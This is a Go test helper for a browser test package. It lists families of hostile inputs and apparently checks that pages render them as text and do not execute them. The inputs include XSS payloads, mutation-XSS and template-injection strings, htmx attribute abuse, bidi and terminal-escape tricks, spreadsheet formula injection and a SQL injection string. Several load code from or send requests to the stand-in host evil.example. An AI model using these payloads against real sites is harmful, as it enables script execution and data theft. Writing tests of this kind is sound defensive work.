package browsertest

import (
	"fmt"
	"strings"
)

// family are strings that try one way to be more than text. Those that run say so by
// a dialog or by the marker, which watched pages report.
type family struct {
	name    string
	strings []string
}

// longest is the longest text of a message, in bytes.
const longest = 65_536

func families() []family {
	return []family{
		{"script", []string{
			`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<ScRiPt >confirm(1)</sCrIpT >`,
			`<script/src=//evil.example/x.js></script>`,
			`<script src="data:text/javascript,alert(1)"></script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
			`<script type=module>window.marker=1</script>`,
			`</title></textarea></option></select></dialog></bdi><script>alert(1)</script>`,
			`<script>import("//evil.example/m.js")</script>`, `<<script>alert(1)//<</script>`,
		}},
		{"image", []string{
			`<img src=x onerror=alert(1)>`, `<img src=x onerror="window.marker=1">`, `<img/src=x/onerror=prompt(1)>`,
			`<img src=//evil.example/p.gif>`, `<img srcset="//evil.example/p.gif 1x">`,
			`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
			"<img src=`x` onerror=alert`1`>",
			`<picture><source srcset=//evil.example/a><img></picture>`, `<input type=image src=x onerror=alert(1)>`,
		}},
		{"svg", []string{
			`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>`,
			`<svg><script xlink:href=data:,alert(1)></script></svg>`,
			`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
			`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
			`<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
			`<svg><use href="//evil.example/s.svg#x"/></svg>`,
			`<svg><image href="//evil.example/i.png"/></svg>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
		}},
		{"frame", []string{
			`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
			`<iframe src=javascript:parent.alert(1)></iframe>`,
			`<iframe src=//evil.example></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`,
			`<embed src=//evil.example/x.swf>`, `<base href=//evil.example/>`,
			`<meta http-equiv=refresh content="0;url=//evil.example/">`,
			`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
			`<link rel=stylesheet href=//evil.example/x.css>`,
			`<form action=//evil.example/><button autofocus>go</button></form>`,
		}},
		{"style", []string{
			`<style>*{background:url(//evil.example/s)}</style>`, `</style><script>alert(1)</script>`,
			`<div style="background:url(//evil.example/d)">`, `<style>@import "//evil.example/i.css";</style>`,
			`" style="position:fixed;inset:0;background:red`,
			`<p style=animation-name:x onanimationstart=alert(1)>`, `expression(alert(1))`,
			`</style><img src=x onerror=alert(1)>`,
			`<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>`,
			`x;background:url(javascript:alert(1))`,
		}},
		{"attribute", []string{
			`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`,
			`' autofocus onfocus=alert(1) x='`, `"><img src=x onerror=alert(1)>`, `'><svg onload=alert(1)>`,
			"` onload=`alert(1)", `x onfocus=alert(1) autofocus tabindex=1 `,
			`" onanimationstart="alert(1)" class="alert`,
			`"/><details open ontoggle=alert(1)>`,
		}},
		{"address", []string{
			`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `javascript://%0aalert(1)`,
			`data:text/html,<script>alert(1)</script>`,
			`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
			`vbscript:msgbox(1)`, `//evil.example/`, `/\evil.example/`,
			`https://evil.example/?q="><script>alert(1)</script>`,
			`../../../../signout?"onclick="alert(1)`,
		}},
		{"entity", []string{
			`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
			`&#x3c;img src=x onerror=alert(1)&#x3e;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
			`%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
			`%253Cscript%253Ealert(1)%253C/script%253E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
			`\x3cscript\x3ealert(1)\x3c/script\x3e`, `java&#115;cript&colon;alert(1)`, `＜script＞alert(1)＜/script＞`,
		}},
		{"template", []string{
			`{{alert(1)}}`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, "`${alert(1)}`", `#{alert(1)}`,
			`<%= alert(1) %>`, `{% raw %}{{ alert(1) }}`, `[[alert(1)]]`,
			`{{define "x"}}<script>alert(1)</script>{{end}}{{template "x"}}`, `@{ alert(1) }`,
		}},
		{"htmx", []string{
			`<div hx-get=//evil.example/ hx-trigger=load>`, `<div hx-on::load="alert(1)">`,
			`<div hx-on:htmx:load="alert(1)">`,
			`" hx-get="/signout" hx-trigger="load`, `<div hx-vals='js:{x: alert(1)}' hx-get=/ hx-trigger=load>`,
			`<div hx-post=/account/sessions hx-trigger=revealed>`,
			`<div data-hx-get=//evil.example/ data-hx-trigger=load>`,
			`<div hx-ext=debug hx-headers='js:{x: alert(1)}'>`,
			`<meta name="htmx-config" content='{"allowEval":true}'>`,
			`<div hx-swap-oob="true" id="state">gone</div>`,
		}},
		{"mutation", []string{
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
			`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
			`<table><tr><td><svg><desc><table><img src=x onerror=alert(1)>`,
			`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
			`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>`,
			`<select><template><script>alert(1)</script></template></select>`,
			`<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
			`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
		}},
		{"comment", []string{
			`<!--`, `--><script>alert(1)</script><!--`, `<!--><img src=x onerror=alert(1)>-->`, `]]>`,
			`]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
			`<?xml version="1.0"?><?x <script>alert(1)</script>?>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
			`</ script><!--<script>`, `<!--<script>alert(1)//-->`,
		}},
		{"bidi", []string{
			"\u202egnp.exe", "\u2066\u202etxt.scr\u2069", "a\u202bb<script>alert(1)</script>", "\u2067abc",
			"\u202dabc\u202c",
			"\u200eabc\u200f<img src=x onerror=alert(1)>", "דעם <b>העולם</b>", "مرحبا \" onclick=\"alert(1)",
			"\u2069\u2069\u202c\u202cabc", strings.Repeat("\u202e", 50) + "abc",
		}},
		{"unseen", []string{
			"<scr\u200bipt>alert(1)</script>", "\u200b\u200c\u200d", "\ufeff<script>alert(1)</script>",
			"java\u00adscript:alert(1)", "\u2028alert(1)\u2029", "\u2060<img src=x onerror=alert(1)>",
			"Z\u0335\u0321\u0322\u0323\u0324\u0325algo", "\U000e0041\U000e0042", "\u0000202e", "\u00a0\u3000 x",
		}},
		{"terminal", []string{
			"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H",
			"\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
			"\x9b31mred", "\u009b31mred", "\r\nlevel=ERROR msg=forged", "\b\b\b\b", "\x1bP+q544e\x1b\\",
			"a\rb\n{\"level\":\"ERROR\",\"msg\":\"forged\"}",
		}},
		{"bytes", []string{
			"\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\xff\xfe<script>alert(1)</script>",
			"\xc0\xbcscript\xc0\xbealert(1)", "\xed\xa0\x80", "<script\x0c>alert(1)</script>",
			"<img\tsrc=x\nonerror=alert(1)>",
			"\x01\x02\x03", "\ufffd\uffff", "\xf4\x90\x80\x80",
		}},
		{"spreadsheet", []string{
			`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, `=HYPERLINK("https://evil.example","x")`,
			"\t=1+1",
			"\r=1+1", `",=1+1,"`, `＝1+1`,
		}},
		{"long", []string{
			strings.Repeat("<b>", longest/3), strings.Repeat("W", 10_000),
			strings.Repeat("long ", 2_000) + "<script>alert(1)</script>", strings.Repeat("&", 1_000) + "lt;",
			strings.Repeat("😀", 1_000),
			strings.Repeat("\n", 300) + "<script>alert(1)</script>", strings.Repeat("<div>", 2_000),
			strings.Repeat("W", 190),
			strings.Repeat("-->", 60), strings.Repeat("é", 99),
		}},
		{"clobber", []string{
			`<img name=body>`, `<form id=state><input name=action>`, `<a id=htmx></a><a id=htmx name=config>`,
			`<dialog open><form method=dialog>`, `<button command=show-modal commandfor=delete-webhook>`,
			`<iframe name=alert>`,
			`<button form=leave formaction=//evil.example>`,
			`<input autofocus>`, `<p id=problem tabindex=-1>`, `<label for=password>`,
		}},
		{"polyglot", []string{
			"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
			`'">><marquee onstart=alert(1)>`, `"}],"x":"<script>alert(1)</script>`, `';alert(1);//`, `\";alert(1);//`,
			`__proto__`, `' OR 1=1 --`, `<x contenteditable onblur=alert(1)>lose focus</x>`,
			`<a href="javas	cript:alert(1)">x</a>`, `<body onload=alert(1) onpageshow=window.marker=1>`,
		}},
	}
}

// hostileStrings are all of them, in turns of the families, so that a part of them has
// some of each.
func hostileStrings() (list []string) {
	all := families()
	for i := range all[0].strings {
		for _, f := range all {
			list = append(list, f.strings[i])
		}
	}
	return list
}

// quoted is s as a JSON string whose bytes stay what they are, also where they are
// not UTF-8.
func quoted(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		switch {
		case c == '"' || c == '\\':
			b.WriteString(`\` + string(rune(c)))
		case c < ' ':
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	return `"` + b.String() + `"`
}
